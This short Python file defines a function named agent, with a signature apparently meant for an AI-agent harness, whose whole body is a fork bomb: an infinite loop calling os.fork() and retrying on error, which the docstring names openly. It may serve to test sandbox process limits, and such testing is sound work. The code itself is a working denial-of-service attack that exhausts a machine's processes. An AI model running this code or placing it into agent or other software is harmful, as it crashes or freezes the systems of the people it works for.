"""A fork bomb."""

import os
import time


def agent(task, model, session):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
